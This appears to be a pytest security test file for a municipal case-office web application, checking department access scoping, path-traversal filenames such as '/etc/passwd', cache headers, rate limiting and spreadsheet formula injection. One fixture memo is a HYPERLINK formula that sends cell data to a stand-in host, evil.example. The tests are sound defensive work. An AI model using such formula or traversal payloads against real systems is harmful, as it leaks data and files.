"""Papers, print runs and files are read by one query only: within scope, and for a department of its own cases."""

from __future__ import annotations

import io
from decimal import Decimal
from pathlib import Path
from zipfile import ZipFile

import pytest
from sqlalchemy import select

from documents import render
from documents.errors import RendererBusy
from processes.errors import NotFound
from processes.office.cases.start import StartCase
from processes.office.funds.entries import ConfirmFundEntry, EnterFundEntry
from processes.office.papers.print_runs import PrintBatch, TakeRun
from processes.papers import queries, runs
from processes.papers.models import IssuedPaper
from processes.papers.run_models import PrintRun
from processes.people.models import Household
from processes.rehearsal.stage import Stage
from processes.storage import file_store
from processes.worker import jobs
from tests.builders import cases, files
from tests.builders.desks import Person

DEPARTMENTS = ("dept_medical", "dept_housing")


def papers(stage: Stage) -> list[IssuedPaper]:
    with stage.database.reading("") as session:
        return list(session.scalars(select(IssuedPaper).order_by(IssuedPaper.id)))


def a_paper(stage: Stage) -> IssuedPaper:
    cases.a_case(stage, at="compare_economy")
    jobs.make_papers(stage.office)
    return papers(stage)[0]


@pytest.mark.parametrize("department", DEPARTMENTS)
def test_a_department_opens_no_paper_of_other_cases(whole_stage: Stage, department: str) -> None:
    paper = a_paper(whole_stage)
    officer = Person(whole_stage, department)
    for address in (f"/papers/{paper.code}.pdf", f"/papers/{paper.code}/original.pdf"):
        assert officer.get(address).status_code == 404, address
    assert officer.post("/papers/batch", {"code": paper.code}).status_code in (403, 404)
    # beyond what anybody with the sheet may know
    assert "张建国" not in officer.get(f"/verify/{paper.code}").text
    with whole_stage.database.reading("") as session:
        assert session.scalars(select(PrintRun)).all() == []


def test_what_was_referred_to_it__a_department_opens(whole_stage: Stage) -> None:
    officer = whole_stage.actor("department_officer", cases.VILLAGE, "medical")
    clerk = whole_stage.actor("window_clerk", cases.VILLAGE)
    whole_stage.set_clock(cases.noon())
    household = cases.a_household(whole_stage)
    needs = {
        "source": "counter", "residence": "local", "basic_living": "no", "urgent": "no", "rigid": "no",
        "needs": ["illness"], "description": "医疗费用高", "phone": "13800000000",
    }  # fmt: skip
    whole_stage.office.perform(StartCase("one_window", household, needs, "t-1"), clerk)
    slip = next(p for p in papers(whole_stage) if p.kind == "referral_slip")
    receipt = next(p for p in papers(whole_stage) if p.kind == "receipt")
    with whole_stage.database.reading("") as session:
        assert queries.by_code(session, officer, slip.code).id == slip.id
        with pytest.raises(NotFound):
            queries.by_code(session, officer, receipt.code)


def test_a_batch_is_its_asker_s_alone(stage: Stage) -> None:
    paper = a_paper(stage)
    clerk = stage.actor("window_clerk", cases.VILLAGE)
    code = stage.office.perform(PrintBatch([paper.code]), clerk).run
    other = stage.actor("township_leader", cases.VILLAGE)
    with stage.database.reading("") as session:
        assert runs.by_code(session, clerk, code).code == code
        with pytest.raises(NotFound):
            runs.by_code(session, other, code)
    with pytest.raises(NotFound):
        stage.office.perform(TakeRun(code), other)


@pytest.mark.parametrize("named", ["../papers/ab/x", "/etc/passwd", "AB" * 32, "a" * 63, "a" * 65, "", "0\0"])
def test_nothing_but_a_hash_names_a_file(settings_here: object, tmp_path: Path, named: str) -> None:
    for ask in (file_store.get, file_store.remove):
        with pytest.raises(NotFound):
            ask(tmp_path, named)


MEMO = '=HYPERLINK("http://evil.example/"&A1,"x")'


def a_fund(stage: Stage) -> None:
    """The township's fund with one confirmed entry, whose memo somebody typed."""
    stage.set_clock(cases.noon())
    one, two = (stage.actor(who, "340199") for who in ("finance_officer", "finance_officer#2"))
    command = EnterFundEntry("340199101", "top_up", Decimal(100), MEMO, "t-2")
    stage.office.perform(ConfirmFundEntry(stage.office.perform(command, one).entry), two)


def test_files_are_stored_nowhere(stage: Stage) -> None:
    """Every file that is sent says no-store, like the pages."""
    paper = a_paper(stage)
    clerk = Person(stage, "window_clerk")
    for address in (f"/papers/{paper.code}.pdf", f"/papers/{paper.code}/original.pdf"):
        assert clerk.get(address).headers["Cache-Control"] == "no-store", address
    a_fund(stage)
    ledger = Person(stage, "finance_officer").get("/funds/340199101/statement-2026-03.xlsx")
    assert (ledger.status_code, ledger.headers["Cache-Control"]) == (200, "no-store")


def test_what_somebody_typed_is_never_a_formula(stage: Stage) -> None:
    a_fund(stage)
    book = ZipFile(
        io.BytesIO(Person(stage, "finance_officer").get("/funds/340199101/statement-2026-03.xlsx").data)
    )
    assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    assert "HYPERLINK" in book.read("xl/sharedStrings.xml").decode()


def test_a_statement_points_to_the_office_s_own_address(stage: Stage) -> None:
    """Never the host that the request names: it stands in the printed code."""
    a_fund(stage)
    finance = Person(stage, "finance_officer")
    seen: list[str] = []
    from processes.papers import statements

    kept = statements.pdf
    try:
        statements.pdf = lambda *told: seen.append(told[-1]) or b"%PDF"  # type: ignore[assignment, func-returns-value]
        finance.client.get("/funds/340199101/statement-2026-03.pdf")
    finally:
        statements.pdf = kept
    assert seen == [f"{stage.office.settings.public_address}/funds/340199101?month=2026-03"]


def test_strangers_who_come_together_are_told_to_come_again(stage: Stage) -> None:
    """Nobody waits on the public page: what is full says so at once, and files of the desk have a child of their own."""
    nobody = Person(stage)
    held = [render._at_once.acquire(blocking=False) for _ in range(render.STRANGERS_AT_ONCE)]
    try:
        assert all(held)
        answer = nobody.post("/verify", {"file": (io.BytesIO(files.a_pdf()), "a.pdf")})
        assert answer.status_code == 503
        assert "核验的人较多" in answer.text
        with pytest.raises(RendererBusy):
            render.check_signatures(render.Checking(files.a_pdf(), ()))
        assert render.count_pages(render.Counting(files.a_pdf(), True)) >= 1
    finally:
        for _ in held:
            render._at_once.release()
    assert nobody.post("/verify", {"file": (io.BytesIO(files.a_pdf()), "a.pdf")}).status_code == 200


def test_households_are_reached_by_nobody_else(whole_stage: Stage) -> None:
    whole_stage.set_clock(cases.noon())
    number = cases.a_household(whole_stage)
    assert Person(whole_stage, "t2_clerk").get(f"/households/{number}").status_code == 404
    with whole_stage.database.reading("") as session:
        assert session.scalars(select(Household.number)).one() == number
